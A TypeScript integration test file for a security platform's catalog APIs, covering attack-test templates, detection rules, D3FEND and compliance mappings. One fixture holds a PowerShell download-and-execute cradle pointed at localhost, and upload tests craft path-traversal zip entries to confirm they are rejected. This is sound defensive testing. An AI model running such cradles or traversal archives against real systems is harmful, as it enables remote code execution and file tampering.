import { readFileSync } from 'node:fs';
import path from 'node:path';
import { D3fendAmbiguous, type Role } from '@aegis/contracts';
import { sql } from 'drizzle-orm';
import type { FastifyInstance } from 'fastify';
import { zipSync } from 'fflate';
import { beforeAll, describe, expect, it } from 'vitest';
import { ATTACK_18, importFile, SHARED_DATA } from '../../../test/attack-data';
import { type Session, signedInAs, signIn } from '../../../test/factories';
import {
  ADMIN_PASSWORD,
  silentLogger,
  startTestPlatform,
  tempDir,
  testDbKind,
  waitFor,
} from '../../../test/support';
import { buildApp } from '../../app';
import type { Platform } from '../../platform';
import { techniqueInScope } from '../analysis/definitions';
import { catalogJobs } from './catalog.jobs';
import { catalogRoutes } from './catalog.routes';
import { type CatalogService, createCatalogService } from './catalog.service';
import { ensureDataSources } from './data-sources.service';
import { syncSource } from './sync';
import { findSourceByKey, insertRun, updateSource } from './sync.queries';

const actor = { userId: null, username: 'test', ip: null, requestId: null };

/**
 * The platform's app plus the catalog routes. Jobs run in-process when triggered (the platform's job
 * registry does not know the catalog's jobs until it is wired), so a 202 is answered once the sync is done.
 */
async function startCatalogApp(): Promise<{
  platform: Platform;
  app: FastifyInstance;
  catalog: CatalogService;
}> {
  const platform = await startTestPlatform();
  let catalog: CatalogService | undefined;
  const jobs = catalogJobs(() => {
    if (!catalog) throw new Error('catalog not wired');
    return catalog.sources;
  });
  catalog = createCatalogService({
    db: platform.database.db,
    storage: platform.storage,
    logger: platform.logger,
    timezone: platform.config.timezone,
    tests: platform.services.tests,
    jobs: {
      async trigger(name, data) {
        const job = jobs.find((j) => j.name === name);
        if (!job) throw new Error(`unknown job ${name}`);
        await job.run(data, { jobId: name, logger: silentLogger, signal: new AbortController().signal });
        return name;
      },
    },
  });
  const app = await buildApp(platform, { webDir: tempDir() });
  // Until app.ts wires the catalog, its routes are added here; once wired, the app's own (pg-boss jobs) serve.
  if (!app.hasRoute({ method: 'GET', url: '/api/v1/data-sources' }))
    await app.register(catalogRoutes(catalog, { uploadLimitBytes: 64 * 1024 * 1024 }), { prefix: '/api/v1' });
  await app.ready();
  return { platform, app, catalog };
}

describe(`catalog APIs on ${testDbKind}`, () => {
  let platform: Platform;
  let app: FastifyInstance;
  const as: Partial<Record<Role, Session>> = {};
  const session = (role: Role) => {
    const s = as[role];
    if (!s) throw new Error(`no ${role} session`);
    return s.bearer;
  };
  const call = (role: Role | null, method: 'GET' | 'POST' | 'PATCH', url: string, payload?: unknown) =>
    app.inject({
      method,
      url: `/api/v1${url}`,
      headers: role ? session(role) : {},
      ...(payload === undefined ? {} : { payload: payload as Record<string, unknown> }),
    });

  beforeAll(async () => {
    ({ platform, app } = await startCatalogApp());
    await importFile(platform, ATTACK_18);
    const db = platform.database.db;
    await ensureDataSources(db);
    const folders: Array<[string, string]> = [
      ['atomic-red-team', 'atomic-red-team'],
      ['elastic', 'elastic-rules'],
      ['nist-800-53-r5', 'compliance/nist-800-53'],
      ['cis-v8', 'compliance/cis-v8'],
      ['d3fend', 'd3fend'],
    ];
    for (const [key, folder] of folders) {
      const source = await findSourceByKey(db, key);
      if (!source) throw new Error(key);
      await updateSource(db, source.id, { locationType: 'folder', location: path.join(SHARED_DATA, folder) });
      await syncSource(
        { db, storage: platform.storage, logger: platform.logger },
        { sourceId: source.id, actor },
      );
    }
    as.admin = await signIn(app, 'admin', ADMIN_PASSWORD);
    for (const role of ['viewer', 'red_tech', 'red_lead', 'blue_tech', 'blue_lead'] as const)
      as[role] = await signedInAs(platform, app, role);
  }, 180_000);

  /** The source's newest run once finished (at once with in-process jobs; polled when pg-boss runs them). */
  const lastRun = (id: string) =>
    waitFor(
      async () => {
        const run = (await call('admin', 'GET', `/data-sources/${id}/runs?limit=1`)).json().items[0];
        return run && ['succeeded', 'failed'].includes(run.status) && run;
      },
      { timeoutMs: 60_000, what: `a finished run of ${id}` },
    );
  const sourceId = async (key: string) => (await findSourceByKey(platform.database.db, key))?.id ?? '';

  describe('data sources (admin only)', () => {
    it('lists the seeded sources to admins only', async () => {
      const res = await call('admin', 'GET', '/data-sources');
      expect(res.statusCode).toBe(200);
      const items = res.json().items as Array<{ key: string; location: string; schedule: string | null }>;
      expect(items.map((s) => s.key).sort()).toEqual(
        [
          'atomic-red-team',
          'caldera',
          'cis-v8',
          'd3fend',
          'elastic',
          'gtfobins',
          'lolbas',
          'nist-800-53-r5',
          'sigma',
          'sigma-emerging-threats',
          'sigma-threat-hunting',
        ].sort(),
      );
      const caldera = items.find((s) => s.key === 'caldera');
      expect(caldera).toMatchObject({ schedule: null });
      expect(caldera?.location).toMatch(/^https:\/\/codeload\.github\.com\//);
      for (const role of ['viewer', 'red_lead', 'blue_lead', 'red_tech', 'blue_tech'] as const)
        expect((await call(role, 'GET', '/data-sources')).statusCode, role).toBe(403);
      expect((await call(null, 'GET', '/data-sources')).statusCode).toBe(401);
    });

    it('validates schedule and location on PATCH', async () => {
      const id = await sourceId('gtfobins');
      const bad = await call('admin', 'PATCH', `/data-sources/${id}`, { schedule: 'every day' });
      expect(bad.statusCode).toBe(400);
      expect(bad.json().error.details.issues[0].path).toBe('body.schedule');
      const relative = await call('admin', 'PATCH', `/data-sources/${id}`, {
        locationType: 'folder',
        location: 'data/gtfobins',
      });
      expect(relative.statusCode).toBe(400);
      const ftp = await call('admin', 'PATCH', `/data-sources/${id}`, {
        locationType: 'url',
        location: 'ftp://x/y',
      });
      expect(ftp.statusCode).toBe(400);
      const ok = await call('admin', 'PATCH', `/data-sources/${id}`, {
        schedule: '0 3 * * 1',
        enabled: false,
      });
      expect(ok.statusCode).toBe(200);
      expect(ok.json()).toMatchObject({ schedule: '0 3 * * 1', enabled: false });
      expect((await call('red_lead', 'PATCH', `/data-sources/${id}`, { enabled: true })).statusCode).toBe(
        403,
      );
      const disabled = await call('admin', 'POST', `/data-sources/${id}/sync`);
      expect(disabled.statusCode).toBe(409);
    });

    it('syncs a source on request (202 + run) and lists its runs', async () => {
      const id = await sourceId('caldera');
      const folder = path.join(SHARED_DATA, 'caldera');
      expect(
        (await call('admin', 'PATCH', `/data-sources/${id}`, { locationType: 'folder', location: folder }))
          .statusCode,
      ).toBe(200);
      const res = await call('admin', 'POST', `/data-sources/${id}/sync`);
      expect(res.statusCode).toBe(202);
      expect(res.json()).toMatchObject({ dataSourceId: id, status: 'queued', location: folder });
      await lastRun(id);
      const runs = await call('admin', 'GET', `/data-sources/${id}/runs`);
      expect(runs.statusCode).toBe(200);
      expect(runs.json().items[0]).toMatchObject({
        id: res.json().id,
        status: 'succeeded',
        counts: { added: 209 },
      });
      expect((await call('admin', 'GET', `/data-sources/${id}`)).json()).toMatchObject({
        status: 'succeeded',
        counts: { items: 209 },
      });
      expect((await call('viewer', 'POST', `/data-sources/${id}/sync`)).statusCode).toBe(403);
      expect((await call('viewer', 'GET', `/data-sources/${id}/runs`)).statusCode).toBe(403);
    });

    it('syncs an uploaded archive, which becomes the location', async () => {
      const id = await sourceId('sigma-threat-hunting');
      const body = readFileSync(path.join(SHARED_DATA, 'sigma/rules-threat-hunting.tar.gz'));
      const upload = (role: Role, payload: Buffer) =>
        app.inject({
          method: 'POST',
          url: `/api/v1/data-sources/${id}/upload?filename=rules-threat-hunting.tar.gz`,
          headers: { ...session(role), 'content-type': 'application/gzip' },
          payload,
        });
      expect((await upload('viewer', body)).statusCode).toBe(403);
      expect((await upload('admin', Buffer.from('not an archive'))).statusCode).toBe(400);
      const res = await upload('admin', body);
      expect(res.statusCode).toBe(202);
      await lastRun(id);
      const runs = (await call('admin', 'GET', `/data-sources/${id}/runs`)).json();
      expect(runs.items[0]).toMatchObject({
        status: 'succeeded',
        locationType: 'upload',
        counts: { added: 140 },
      });
      expect((await call('admin', 'GET', `/data-sources/${id}`)).json()).toMatchObject({
        locationType: 'upload',
      });
    });

    it('refuses an unsafe or empty archive before accepting it (400 in words), and keeps the working location', async () => {
      const id = await sourceId('sigma-threat-hunting');
      const before = (await call('admin', 'GET', `/data-sources/${id}`)).json();
      const runsBefore = (await call('admin', 'GET', `/data-sources/${id}/runs`)).json().total;
      const rule = new TextEncoder().encode('title: x\nid: 1\n');
      const cases: Array<[string, Buffer, RegExp]> = [
        ['traversal', Buffer.from(zipSync({ '../rules/evil.yml': rule })), /"\.\."/],
        ['absolute path', Buffer.from(zipSync({ '/etc/rules/evil.yml': rule })), /absolute path/],
        ['no files of the source', Buffer.from(zipSync({ 'README.txt': rule })), /holds no .* files/],
      ];
      for (const [what, payload, message] of cases) {
        const res = await app.inject({
          method: 'POST',
          url: `/api/v1/data-sources/${id}/upload?filename=x.zip`,
          headers: { ...session('admin'), 'content-type': 'application/zip' },
          payload,
        });
        expect(res.statusCode, what).toBe(400);
        expect(res.json().error.message, what).toMatch(message);
      }
      expect((await call('admin', 'GET', `/data-sources/${id}/runs`)).json().total).toBe(runsBefore);
      expect((await call('admin', 'GET', `/data-sources/${id}`)).json()).toMatchObject({
        locationType: before.locationType,
        location: before.location,
      });
    });

    it('makes an upload the location only when its sync succeeded (API and `aegis import` alike)', async () => {
      const id = await sourceId('sigma-threat-hunting');
      const db = platform.database.db;
      const before = await findSourceByKey(db, 'sigma-threat-hunting');
      // An upload that passed the checks but whose sync fails (here: its blob is gone by then).
      const run = await insertRun(db, {
        dataSourceId: id,
        locationType: 'upload',
        location: 'catalog/sigma-threat-hunting/vanished',
        triggeredBy: null,
      });
      await expect(
        syncSource(
          { db, storage: platform.storage, logger: platform.logger },
          { sourceId: id, runId: run.id, actor },
        ),
      ).rejects.toThrow();
      const after = await findSourceByKey(db, 'sigma-threat-hunting');
      expect(after).toMatchObject({ locationType: before?.locationType, location: before?.location });
    });

    it('does nothing when the sync of a finished run is replayed (a restart after its completion was lost)', async () => {
      const id = await sourceId('sigma-threat-hunting');
      const db = platform.database.db;
      const done = await lastRun(id);
      const syncs = async () =>
        (
          await db.execute<{ n: number }>(
            sql`select count(*)::int as n from audit_logs where action = 'data_source.sync' and entity_id = ${id}`,
          )
        ).rows[0]?.n;
      const before = await syncs();
      const replayed = await syncSource(
        { db, storage: platform.storage, logger: platform.logger },
        { sourceId: id, runId: done.id, actor },
      );
      expect(replayed).toMatchObject({ id: done.id, status: done.status });
      expect(replayed.finishedAt?.toISOString()).toBe(done.finishedAt);
      expect(await syncs()).toBe(before);
    });

    it('syncs every enabled source with sync-all', async () => {
      // Only CIS stays enabled: the others point at public URLs, and tests never leave 127.0.0.1.
      const all = (await call('admin', 'GET', '/data-sources')).json().items as Array<{
        id: string;
        key: string;
      }>;
      for (const s of all)
        await call('admin', 'PATCH', `/data-sources/${s.id}`, { enabled: s.key === 'cis-v8' });
      const res = await call('admin', 'POST', '/data-sources/sync-all');
      expect(res.statusCode).toBe(202);
      expect(res.json().runs).toHaveLength(1);
      expect(await lastRun(await sourceId('cis-v8'))).toMatchObject({
        status: 'succeeded',
        counts: { added: 0, unchanged: 105 },
      });
      expect((await call('blue_lead', 'POST', '/data-sources/sync-all')).statusCode).toBe(403);
    });
  });

  describe('test templates', () => {
    it('lists with filters, search, sort and pagination; any signed-in user may read', async () => {
      const art = (await call('viewer', 'GET', '/test-templates?source=atomic-red-team&limit=5')).json();
      expect(art.total).toBe(1819);
      expect(art.items).toHaveLength(5);

      const byTechnique = (
        await call('viewer', 'GET', '/test-templates?technique=T1059.001&limit=500')
      ).json();
      expect(byTechnique.total).toBeGreaterThan(10);
      for (const t of byTechnique.items)
        expect(t.techniques.map((x: { attackId: string }) => x.attackId)).toContain('T1059.001');
      const techniqueId = byTechnique.items[0].techniques.find(
        (x: { attackId: string }) => x.attackId === 'T1059.001',
      ).id;
      expect(
        (await call('viewer', 'GET', `/test-templates?technique=${techniqueId}&limit=1`)).json().total,
      ).toBe(byTechnique.total);

      const linux = (await call('viewer', 'GET', '/test-templates?platform=linux&limit=500')).json();
      expect(linux.total).toBeGreaterThan(0);
      for (const t of linux.items) expect(t.platforms).toContain('linux');

      const execution = (await call('viewer', 'GET', '/test-templates?tactic=execution&limit=1')).json();
      expect(execution.total).toBeGreaterThan(0);

      // Sorting follows the database's collation: descending is ascending reversed.
      const search = (order: string) =>
        call('viewer', 'GET', `/test-templates?q=mimikatz&sort=name&order=${order}&limit=500`).then((r) =>
          r.json(),
        );
      const [asc, desc] = [await search('asc'), await search('desc')];
      expect(asc.total).toBeGreaterThan(0);
      const names = (page: { items: Array<{ name: string }> }) => page.items.map((t) => t.name);
      expect(names(desc)).toEqual([...names(asc)].reverse());

      const detail = await call('viewer', 'GET', `/test-templates/${art.items[0].id}`);
      expect(detail.statusCode).toBe(200);
      expect(detail.json()).toMatchObject({ source: 'atomic-red-team', isCustom: false });
      expect(detail.json().url).toMatch(/^https:\/\//);
      expect(
        (await call('viewer', 'GET', '/test-templates/00000000-0000-4000-8000-000000000000')).statusCode,
      ).toBe(404);
    });

    it('creates and edits custom templates (red roles), refuses to edit synced ones', async () => {
      const body = {
        name: 'Custom PowerShell download cradle',
        description: 'In-house procedure',
        techniques: ['T1059.001', 'T1105'],
        platforms: ['windows'],
        executor: 'powershell',
        command: 'IEX (New-Object Net.WebClient).DownloadString("http://127.0.0.1/x")',
      };
      for (const role of ['viewer', 'blue_tech', 'blue_lead'] as const)
        expect((await call(role, 'POST', '/test-templates', body)).statusCode, role).toBe(403);
      const unknown = await call('red_tech', 'POST', '/test-templates', { ...body, techniques: ['T9999'] });
      expect(unknown.statusCode).toBe(400);
      const revoked = await call('red_tech', 'POST', '/test-templates', {
        ...body,
        techniques: ['T1574.002'],
      });
      expect(revoked.statusCode).toBe(400);
      const created = await call('red_tech', 'POST', '/test-templates', body);
      expect(created.statusCode).toBe(201);
      const template = created.json();
      expect(template).toMatchObject({
        source: 'custom',
        isCustom: true,
        active: true,
        platforms: ['windows'],
      });
      expect(template.techniques.map((t: { attackId: string }) => t.attackId).sort()).toEqual([
        'T1059.001',
        'T1105',
      ]);
      expect(template.expectedOutcome).toBeNull();

      const edited = await call('red_lead', 'PATCH', `/test-templates/${template.id}`, {
        name: 'Renamed',
        techniques: ['T1105'],
      });
      expect(edited.statusCode).toBe(200);
      expect(edited.json()).toMatchObject({ name: 'Renamed', techniques: [{ attackId: 'T1105' }] });
      // Without a choice it counts under its techniques' tactics (T1059.001 execution, T1105 command
      // and control); the author's choice stands where the techniques have it, else theirs apply.
      expect(template).toMatchObject({ tactics: ['execution', 'command-and-control'], sourceTactics: [] });
      expect(edited.json().tactics).toEqual(['command-and-control']);
      const chosen = await call('red_lead', 'PATCH', `/test-templates/${template.id}`, {
        techniques: ['T1059.001', 'T1105'],
        tactics: ['execution', 'stealth'],
      });
      expect(chosen.json()).toMatchObject({
        tactics: ['execution'],
        sourceTactics: ['execution', 'stealth'],
      });
      const byTactic = (tactic: string) =>
        call('viewer', 'GET', `/test-templates?tactic=${tactic}&source=custom&limit=500`).then((r) =>
          r.json().items.map((t: { id: string }) => t.id),
        );
      expect(await byTactic('execution')).toContain(template.id);
      expect(await byTactic('command-and-control')).not.toContain(template.id);
      const foreign = await call('red_lead', 'PATCH', `/test-templates/${template.id}`, {
        tactics: ['stealth'],
      });
      expect(foreign.json().tactics).toEqual(['execution', 'command-and-control']);

      // A template declares what the defences should do; a test started from it expects the same,
      // unless the person starting it says otherwise.
      const bad = await call('red_lead', 'PATCH', `/test-templates/${template.id}`, {
        expectedOutcome: 'maybe',
      });
      expect(bad.statusCode).toBe(400);
      expect(bad.body).toContain('expectedOutcome');
      const expecting = await call('red_lead', 'PATCH', `/test-templates/${template.id}`, {
        expectedOutcome: 'prevented',
      });
      expect(expecting.json().expectedOutcome).toBe('prevented');
      const inherited = await call('red_tech', 'POST', `/test-templates/${template.id}/tests`, {});
      expect(inherited.statusCode).toBe(201);
      expect(inherited.json()).toMatchObject({ templateId: template.id, expectedOutcome: 'prevented' });
      const overridden = await call('red_tech', 'POST', `/test-templates/${template.id}/tests`, {
        expectedOutcome: 'detected',
      });
      expect(overridden.json().expectedOutcome).toBe('detected');
      const withOutcome = await call('red_tech', 'POST', '/test-templates', {
        ...body,
        expectedOutcome: 'logged',
      });
      expect(withOutcome.json().expectedOutcome).toBe('logged');
      expect(
        (await call('viewer', 'PATCH', `/test-templates/${template.id}`, { name: 'x' })).statusCode,
      ).toBe(403);

      const synced = (await call('viewer', 'GET', '/test-templates?source=atomic-red-team&limit=1')).json()
        .items[0];
      expect((await call('admin', 'PATCH', `/test-templates/${synced.id}`, { name: 'x' })).statusCode).toBe(
        409,
      );
    });

    it('toggles and bulk-toggles templates, and counts them in the statistics', async () => {
      const page = (await call('viewer', 'GET', '/test-templates?source=atomic-red-team&limit=3')).json();
      const [first, ...rest] = page.items as Array<{ id: string }>;
      if (!first) throw new Error('no template');
      expect((await call('viewer', 'POST', `/test-templates/${first.id}/toggle`)).statusCode).toBe(403);
      const off = await call('red_tech', 'POST', `/test-templates/${first.id}/toggle`);
      expect(off.json()).toMatchObject({ active: false });
      const bulk = await call('red_lead', 'POST', '/test-templates/bulk', {
        ids: rest.map((t) => t.id),
        active: false,
      });
      expect(bulk.json()).toEqual({ updated: 2 });
      expect(
        (await call('viewer', 'POST', '/test-templates/bulk', { ids: [first.id], active: true })).statusCode,
      ).toBe(403);
      const inactive = (await call('viewer', 'GET', '/test-templates?active=false&limit=10')).json();
      expect(inactive.items.map((t: { id: string }) => t.id).sort()).toEqual(
        page.items.map((t: { id: string }) => t.id).sort(),
      );

      const stats = (await call('viewer', 'GET', '/test-templates/stats')).json();
      const artBucket = stats.bySource.find((b: { key: string }) => b.key === 'atomic-red-team');
      expect(artBucket).toEqual({ key: 'atomic-red-team', total: 1819, active: 1816 });
      expect(stats.byPlatform.find((b: { key: string }) => b.key === 'windows').total).toBeGreaterThan(500);
      expect(stats.byTactic.length).toBeGreaterThan(5);
      expect(stats.coverage.techniques).toBeGreaterThan(600);
      expect(stats.coverage.withActiveTemplate).toBeGreaterThan(200);
      expect(stats.coverage.withActiveTemplate).toBeLessThanOrEqual(stats.coverage.techniques);

      await call('red_tech', 'POST', '/test-templates/bulk', {
        ids: page.items.map((t: { id: string }) => t.id),
        active: true,
      });
    });

    it('starts a test from a template through the test workflow (red roles)', async () => {
      const template = (
        await call('viewer', 'GET', '/test-templates?technique=T1003.001&source=atomic-red-team&limit=1')
      ).json().items[0];
      expect((await call('viewer', 'POST', `/test-templates/${template.id}/tests`, {})).statusCode).toBe(403);
      expect((await call('blue_lead', 'POST', `/test-templates/${template.id}/tests`, {})).statusCode).toBe(
        403,
      );
      const res = await call('red_tech', 'POST', `/test-templates/${template.id}/tests`, {});
      expect(res.statusCode).toBe(201);
      expect(res.json()).toMatchObject({ title: template.name, templateId: template.id, state: 'draft' });
      expect(JSON.stringify(res.json())).toContain('T1003.001');
      const other = await call('red_lead', 'POST', `/test-templates/${template.id}/tests`, {
        technique: 'T1105',
      });
      expect(other.statusCode).toBe(400);
      const titled = await call('red_lead', 'POST', `/test-templates/${template.id}/tests`, {
        title: 'My run',
      });
      expect(titled.json()).toMatchObject({ title: 'My run' });
    });
  });

  describe('detection rules', () => {
    it('lists with filters and shows the raw rule with its author', async () => {
      const all = (await call('viewer', 'GET', '/detection-rules?source=elastic&limit=500')).json();
      expect(all.total).toBe(306);
      const high = (
        await call('viewer', 'GET', '/detection-rules?source=elastic&level=high&limit=500')
      ).json();
      expect(high.total).toBeGreaterThan(0);
      for (const r of high.items) expect(r.level).toBe('high');
      const sigma = (
        await call('viewer', 'GET', '/detection-rules?source=sigma-threat-hunting&limit=500')
      ).json();
      expect(sigma.total).toBe(140);
      const windows = (
        await call('viewer', 'GET', '/detection-rules?source=sigma-threat-hunting&product=windows&limit=500')
      ).json();
      expect(windows.total).toBeGreaterThan(0);
      for (const r of windows.items) expect(r.logSource.product).toBe('windows');
      const technique = windows.items.find((r: { techniques: unknown[] }) => r.techniques.length > 0)
        .techniques[0];
      const byTechnique = (
        await call('viewer', 'GET', `/detection-rules?technique=${technique.attackId}`)
      ).json();
      expect(byTechnique.total).toBeGreaterThan(0);

      const detail = (await call('viewer', 'GET', `/detection-rules/${windows.items[0].id}`)).json();
      expect(detail.raw).toContain('title:');
      expect(detail.rawFormat).toBe('yaml');
      expect(detail.author).toBeTruthy();
      expect(windows.items[0].author).toBe(detail.author);
    });

    it('lets blue leads mark a rule deployed', async () => {
      const rule = (await call('viewer', 'GET', '/detection-rules?source=elastic&limit=1')).json().items[0];
      for (const role of ['viewer', 'red_lead', 'blue_tech'] as const)
        expect(
          (await call(role, 'PATCH', `/detection-rules/${rule.id}`, { deployed: true })).statusCode,
          role,
        ).toBe(403);
      const res = await call('blue_lead', 'PATCH', `/detection-rules/${rule.id}`, { deployed: true });
      expect(res.json()).toMatchObject({ deployed: true });
      const deployed = (await call('viewer', 'GET', '/detection-rules?deployed=true')).json();
      expect(deployed.items.map((r: { id: string }) => r.id)).toEqual([rule.id]);
    });
  });

  describe('D3FEND and compliance', () => {
    it('lists D3FEND countermeasures with their techniques and records implementation (blue leads)', async () => {
      const list = (await call('viewer', 'GET', '/d3fend?limit=500')).json();
      // Every D3FEND technique, both that share D3-RC included (keyed by IRI), with every mapping pair:
      // 3,754 distinct pairs upstream, 3,734 once revoked ATT&CK ids resolve onto their successors in 18.1.
      expect(list.total).toBe(193);
      const pairs = await platform.database.db.execute<{ n: number }>(
        sql`select count(*)::int as n from d3fend_technique_mappings`,
      );
      expect(Number(pairs.rows[0]?.n)).toBe(3734);
      // The tactic facet counts what the list holds, tactic by tactic.
      const tactics = (await call('viewer', 'GET', '/d3fend/tactics')).json().items as Array<{
        key: string;
        total: number;
      }>;
      const byTactic = new Map<string, number>();
      for (const d of list.items as Array<{ tactic: string | null }>)
        if (d.tactic) byTactic.set(d.tactic, (byTactic.get(d.tactic) ?? 0) + 1);
      expect(tactics.length).toBeGreaterThan(3);
      expect(Object.fromEntries(tactics.map((t) => [t.key, t.total]))).toEqual(Object.fromEntries(byTactic));
      const first = tactics[0] as { key: string; total: number };
      expect(
        (await call('viewer', 'GET', `/d3fend?tactic=${encodeURIComponent(first.key)}&limit=1`)).json().total,
      ).toBe(first.total);
      const mapped = list.items.find((d: { techniques: unknown[] }) => d.techniques.length > 0);
      const byTechnique = (
        await call('viewer', 'GET', `/d3fend?technique=${mapped.techniques[0].attackId}`)
      ).json();
      expect(byTechnique.items.map((d: { id: string }) => d.id)).toContain(mapped.id);
      const detail = await call('viewer', 'GET', `/d3fend/${mapped.d3fendId}`);
      expect(detail.json()).toMatchObject({ id: mapped.id, implementation: null });
      // Each countered technique comes with the organisation's coverage of it, as it stands.
      const countered = mapped.techniques[0];
      expect(countered).toMatchObject({ coverageStatus: 'untested', tactics: expect.any(Array) });
      await platform.database.db.execute(
        sql`insert into technique_coverage (technique_id, status) values (${countered.id}::uuid, 'partial')
            on conflict (technique_id) do update set status = 'partial'`,
      );
      const after = (await call('viewer', 'GET', `/d3fend/${mapped.d3fendId}`)).json();
      expect(after.techniques.find((t: { id: string }) => t.id === countered.id).coverageStatus).toBe(
        'partial',
      );
      const d3fendCounts = (await call('viewer', 'GET', `/coverage?by=d3fend&key=${mapped.id}`)).json();
      expect(d3fendCounts.items[0]).toMatchObject({ key: mapped.id, attackId: mapped.d3fendId });
      expect(d3fendCounts.items[0].counts.partial).toBe(1);
      expect(
        (await call('viewer', 'PATCH', `/d3fend/${mapped.id}`, { implementation: 'partial' })).statusCode,
      ).toBe(403);
      const set = await call('blue_lead', 'PATCH', `/d3fend/${mapped.d3fendId}`, {
        implementation: 'partial',
      });
      expect(set.json()).toMatchObject({ implementation: 'partial' });
      expect((await call('viewer', 'GET', '/d3fend?implementation=partial')).json().total).toBe(1);
    });

    it('addresses a countermeasure by IRI; a D3FEND id two techniques share is a 409 naming both', async () => {
      const ambiguous = await call('viewer', 'GET', '/d3fend/D3-RC');
      expect(ambiguous.statusCode).toBe(409);
      const body = D3fendAmbiguous.parse(ambiguous.json());
      expect(body.error.details.candidates.map((c) => [c.iri, c.name])).toEqual([
        ['d3f:ReissueCredential', 'Reissue Credential'],
        ['d3f:RestoreConfiguration', 'Restore Configuration'],
      ]);
      expect(body.error.message).toMatch(/D3-RC names 2 techniques/);
      expect((await call('blue_lead', 'PATCH', '/d3fend/d3-rc', { implementation: 'none' })).statusCode).toBe(
        409,
      );

      const reissue = (await call('viewer', 'GET', '/d3fend/d3f:ReissueCredential')).json();
      expect(reissue).toMatchObject({ iri: 'd3f:ReissueCredential', d3fendId: 'D3-RC', tactic: 'Restore' });
      // Its 33 upstream mappings, as ATT&CK 18.1 resolves them (a revoked id lands on its successor).
      expect(reissue.techniques.length + reissue.unresolvedAttackIds.length).toBeGreaterThan(25);
      const full = await call(
        'viewer',
        'GET',
        `/d3fend/${encodeURIComponent('http://d3fend.mitre.org/ontologies/d3fend.owl#ReissueCredential')}`,
      );
      expect(full.json().id).toBe(reissue.id);
      expect((await call('viewer', 'GET', `/d3fend/${reissue.id}`)).json().iri).toBe('d3f:ReissueCredential');
      expect((await call('viewer', 'GET', '/d3fend/d3f:NoSuchThing')).statusCode).toBe(404);

      const set = await call('blue_lead', 'PATCH', `/d3fend/${encodeURIComponent('d3f:ReissueCredential')}`, {
        implementation: 'implemented',
      });
      expect(set.json()).toMatchObject({ id: reissue.id, implementation: 'implemented' });
      const restore = (await call('viewer', 'GET', '/d3fend/d3f:RestoreConfiguration')).json();
      expect(restore).toMatchObject({ d3fendId: 'D3-RC', implementation: null });
    });

    it('lists frameworks and controls with the techniques they mitigate', async () => {
      const frameworks = (await call('viewer', 'GET', '/compliance/frameworks')).json().items;
      expect(frameworks).toEqual(
        expect.arrayContaining([
          expect.objectContaining({ framework: 'nist-800-53-r5', controls: 109 }),
          expect.objectContaining({ framework: 'cis-v8', controls: 105 }),
        ]),
      );
      const nist = (
        await call('viewer', 'GET', '/compliance/controls?framework=nist-800-53-r5&limit=500')
      ).json();
      expect(nist.total).toBe(109);
      const ids = nist.items.map((c: { controlId: string }) => c.controlId);
      expect(ids.indexOf('AC-2')).toBeLessThan(ids.indexOf('AC-10'));
      // Families of one framework, each with its control count; the family filter agrees.
      const families = (await call('viewer', 'GET', '/compliance/families?framework=nist-800-53-r5')).json()
        .items as Array<{ key: string; total: number }>;
      const familyCounts = new Map<string, number>();
      for (const c of nist.items as Array<{ family: string | null }>)
        if (c.family) familyCounts.set(c.family, (familyCounts.get(c.family) ?? 0) + 1);
      expect(Object.fromEntries(families.map((f) => [f.key, f.total]))).toEqual(
        Object.fromEntries(familyCounts),
      );
      if (families[0])
        expect(
          (
            await call(
              'viewer',
              'GET',
              `/compliance/controls?framework=nist-800-53-r5&family=${encodeURIComponent(families[0].key)}&limit=1`,
            )
          ).json().total,
        ).toBe(families[0].total);
      // A list row counts its techniques by coverage status; the detail lists them.
      const control = nist.items.find((c: { techniqueCount: number }) => c.techniqueCount > 0);
      expect(control).not.toHaveProperty('techniques');
      const detail = (await call('viewer', 'GET', `/compliance/controls/${control.id}`)).json();
      expect(detail.techniques).toHaveLength(control.techniqueCount);
      const byStatus: Record<string, number> = {};
      for (const t of detail.techniques as Array<{ coverageStatus: string }>)
        byStatus[t.coverageStatus] = (byStatus[t.coverageStatus] ?? 0) + 1;
      expect(Object.fromEntries(Object.entries(control.coverage).filter(([, n]) => n !== 0))).toEqual(
        byStatus,
      );
      expect(detail.techniques[0]).toMatchObject({
        coverageStatus: expect.any(String),
        tactics: expect.any(Array),
      });
      // The coverage module counts the same control's in-scope techniques, one statement for any page.
      const inScopeOfDetail = (
        await platform.database.db.execute<{ platforms: string[]; revoked: boolean; deprecated: boolean }>(
          sql`select platforms, revoked, deprecated from attack_objects
               where id in (${sql.join(
                 detail.techniques.map((t: { id: string }) => sql`${t.id}::uuid`),
                 sql`, `,
               )})`,
        )
      ).rows.filter((t) => techniqueInScope(t, null)).length;
      const counted = (
        await call('viewer', 'GET', `/coverage?by=control&framework=nist-800-53-r5&key=${control.id}`)
      ).json();
      expect(counted.items).toEqual([
        expect.objectContaining({ key: control.id, attackId: control.controlId, total: inScopeOfDetail }),
      ]);
      const allControls = (
        await call('viewer', 'GET', '/coverage?by=control&framework=nist-800-53-r5')
      ).json();
      expect(allControls.items.length).toBeGreaterThan(100);
      const byTechnique = (
        await call(
          'viewer',
          'GET',
          `/compliance/controls?technique=${detail.techniques[0].attackId}&limit=500`,
        )
      ).json();
      expect(byTechnique.items.map((c: { id: string }) => c.id)).toContain(control.id);
      expect((await call(null, 'GET', '/compliance/frameworks')).statusCode).toBe(401);
    });
  });
});
